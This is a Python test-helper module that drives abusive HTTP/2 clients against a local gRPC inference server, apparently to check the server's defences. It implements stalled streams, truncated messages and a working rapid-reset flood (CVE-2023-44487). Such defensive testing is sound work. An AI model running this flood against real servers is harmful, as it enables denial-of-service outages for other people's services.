"""Hostile gRPC clients on raw HTTP/2 frames (the h2 package): streams that never send their message,
messages cut one byte short, and rapid reset (CVE-2023-44487). For the tests and benchmarks/grpc_abuse.py."""

from __future__ import annotations

import socket
import time
from typing import Any

METHOD = "/inference.GRPCInferenceService/ModelInfer"


def infer_message(rows: int = 1) -> bytes:
    """A serialized ModelInferRequest of ``rows`` random demo-model images (raw FP32 contents)."""
    from serve_helpers import digits_images

    from bninception.serve.proto import inference_pb2 as pb

    x = digits_images(rows)
    request = pb.ModelInferRequest(model_name="bninception")
    request.inputs.add(name="data", datatype="FP32", shape=list(x.shape))
    request.raw_input_contents.append(x.astype("<f4").tobytes())
    return request.SerializeToString()


def _connection(port: int) -> tuple[socket.socket, Any]:
    import h2.config
    import h2.connection

    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    conn.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1 << 20})
    sock.sendall(conn.data_to_send())
    return sock, conn


def _headers(port: int) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", f"127.0.0.1:{port}"),
            ("content-type", "application/grpc"), ("te", "trailers")]


def _pump(sock: socket.socket, conn: Any, timeout: float = 0.0) -> list[Any]:
    """Read what the server sent so far (without blocking longer than ``timeout``); its events."""
    sock.settimeout(timeout)
    events: list[Any] = []
    try:
        while data := sock.recv(1 << 16):
            events += conn.receive_data(data)
            sock.sendall(conn.data_to_send())
            if timeout == 0.0:
                continue
    except (BlockingIOError, TimeoutError):
        pass
    return events


class OpenStreams:
    """``count`` streams on one connection that send their headers and then ``body`` (a gRPC message cut
    short, or nothing) and never finish; :meth:`reset_by_server` counts those the server ended."""

    def __init__(self, port: int, count: int, declared: int = 0, sent: int = 0) -> None:
        import h2.exceptions

        self.sock, self.conn = _connection(port)
        _pump(self.sock, self.conn, 0.5)  # the server's SETTINGS first: its stream limit
        self.ended: set[int] = set()
        self.refused = 0
        frame = (b"\0" + declared.to_bytes(4, "big") + bytes(sent)) if declared else b""
        for _ in range(count):
            stream = self.conn.get_next_available_stream_id()
            try:
                self.conn.send_headers(stream, _headers(port))
                if frame:
                    self._send_data(stream, frame)
            except h2.exceptions.TooManyStreamsError:
                self.refused += 1  # the server's SETTINGS_MAX_CONCURRENT_STREAMS
                continue
            except h2.exceptions.StreamClosedError:
                self.ended.add(stream)  # the server ended it while its message was being sent
            self.sock.sendall(self.conn.data_to_send())

    def _send_data(self, stream: int, data: bytes) -> None:
        while data:
            window = min(self.conn.local_flow_control_window(stream), self.conn.max_outbound_frame_size)
            if window <= 0:
                self.sock.sendall(self.conn.data_to_send())
                self._events(0.3)
                if self.conn.local_flow_control_window(stream) <= 0:
                    return  # the server holds back: what it has not taken is not its memory
                continue
            self.conn.send_data(stream, data[:window])
            data = data[window:]

    def _events(self, timeout: float) -> None:
        import h2.events

        for event in _pump(self.sock, self.conn, timeout):
            if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                self.ended.add(event.stream_id)

    def reset_by_server(self, wait_s: float = 0.5) -> int:
        self._events(wait_s)
        return len(self.ended)

    def close(self) -> None:
        self.sock.close()


def rapid_reset(port: int, streams: int, seconds: float) -> tuple[int, bool]:
    """Open and at once cancel up to ``streams`` streams on one connection within ``seconds``: how many
    were sent, and whether the server closed the connection (its answer to the abuse)."""
    from h2.errors import ErrorCodes

    sock, conn = _connection(port)
    headers = _headers(port)
    sent = 0
    deadline = time.monotonic() + seconds
    try:
        while sent < streams and time.monotonic() < deadline:
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                conn.reset_stream(stream, ErrorCodes.CANCEL)
                sent += 1
            sock.sendall(conn.data_to_send())
            _pump(sock, conn)
    except (OSError, Exception) as exc:  # the server closed the connection (GOAWAY, reset)
        if not isinstance(exc, OSError) and type(exc).__module__.split(".")[0] != "h2":
            raise
        return sent, True
    finally:
        sock.close()
    return sent, False
